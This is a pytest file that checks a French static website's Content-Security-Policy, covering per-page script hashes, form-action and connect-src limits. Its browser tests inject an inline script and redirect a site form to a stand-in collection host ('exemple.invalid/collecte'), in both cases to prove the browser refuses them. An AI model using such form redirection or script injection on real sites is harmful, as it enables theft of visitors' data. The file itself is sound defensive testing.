"""« Sécurité »: every page carries its Content-Security-Policy, written after the
build; the browser harness (tests/test_browser_harness.py) proves that no page breaks it (Chromium
reports each violation as a console error); here, an injected inline script is refused."""

from __future__ import annotations

import re
from html import unescape

import pytest

from scripts import securite
from scripts.core.built import BuiltSite
from tests.conftest import console_errors

POLICY = re.compile(r'<head>\s*<meta charset="utf-8">\s*'
                    r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">')


def directives(html: str) -> dict[str, list[str]]:
    match = POLICY.search(html)
    assert match, "pas de politique de sécurité en tête de <head>, juste après le jeu de caractères"
    return {name: values for name, *values in (part.split() for part in unescape(match[1]).split(";"))}


def test_every_page_declares_the_policy_at_the_top_of_its_head(pages, forms_receiver):
    check_policy(pages, forms_receiver.base)


def check_policy(pages: dict[str, str], receiver: str) -> None:
    """Every page's policy, the build posting its forms to `receiver` (also the other builder's contract)."""
    for address, html in pages.items():
        policy = directives(html)
        assert policy["default-src"] == ["'self'"], address
        assert policy["object-src"] == ["'none'"] and policy["base-uri"] == ["'self'"], address
        assert policy["form-action"] == ["'self'", receiver], address  # the build posts to its receiver
        assert policy["connect-src"] == ["'self'", receiver], address
        assert "'unsafe-inline'" not in policy["script-src"] and "'unsafe-eval'" not in policy["script-src"]
        assert all(value.startswith("'sha256-") for value in policy["script-src"][2:]), address
        # No script comes before it.
        assert "<script" not in html or html.index("Content-Security-Policy") < html.index("<script"), address


@pytest.mark.browser
def test_an_injected_inline_script_is_refused_and_reported(site_url, page):
    errors = console_errors(page)
    page.goto(site_url + "comprendre/conditions/")
    page.evaluate("""() => {
      const script = document.createElement('script');
      script.textContent = 'window.__injecte = true';
      document.body.appendChild(script);
    }""")
    assert page.evaluate("() => window.__injecte") is None
    assert any("Content Security Policy" in error for error in errors), errors


@pytest.mark.browser
def test_a_form_cannot_post_anywhere_else(site_url, page):
    errors = console_errors(page)
    page.goto(site_url + "formulaires/poser-une-question/")
    with page.expect_console_message(lambda message: "form-action" in message.text):
        page.evaluate("""() => {
          const form = document.querySelector('form.c2i2e-form');
          form.noValidate = true;
          form.action = 'https://exemple.invalid/collecte';
          form.submit();
        }""")
    assert page.url.startswith(site_url)
    assert any("form-action" in error for error in errors), errors


def test_the_policy_lists_each_inline_script_and_style_by_its_hash():
    policy = securite.policy({"alert(1)"}, {"width: 30%"}, "https://formspree.io")
    assert "script-src 'self' 'wasm-unsafe-eval' 'sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI='" in policy
    assert "style-src 'self' 'unsafe-hashes' 'sha256-" in policy
    assert "form-action 'self' https://formspree.io" in policy


def test_under_make_serve_the_live_reload_script_may_run():
    policy = securite.policy({"alert(1)"}, set(), "http://127.0.0.1:8001", serving=True)
    assert "script-src 'self' 'wasm-unsafe-eval' 'unsafe-inline'" in policy and "sha256" not in policy


def test_every_page_runs_the_same_inline_scripts(pages):
    """Each inline script the policy allows costs its hash in every page (the first-load weight budget):
    none may differ with the page's depth (Material's storage scope is set once, mkdocs.yml `extra.scope`)."""
    runs = {address: frozenset(script for attributes, script in securite._INLINE_SCRIPT.findall(html)
                               if securite._runs(attributes)) for address, html in pages.items()
            if not address.startswith("admin/")}  # the editor's page is no page of the theme
    assert len(set(runs.values())) == 1, sorted({len(scripts) for scripts in runs.values()})
    assert len(runs[""]) <= 3, sorted(runs[""])


def test_a_data_block_is_no_script_to_allow(tmp_path):
    """Material's configuration is a JSON data block, which no browser runs: no hash for it."""
    (tmp_path / "index.html").write_text('<!doctype html><html><head><meta charset="utf-8"></head><body>'
                                         '<script id="__config" type="application/json">{"base": "."}</script>'
                                         '<script>var a = 1</script><script type="module">b()</script></body></html>',
                                         encoding="utf-8")
    site = BuiltSite.read(tmp_path)
    securite.apply(site)
    site.write()
    allowed = directives((tmp_path / "index.html").read_text(encoding="utf-8"))["script-src"][2:]
    assert sorted(allowed) == sorted([securite._hash("var a = 1"), securite._hash("b()")])
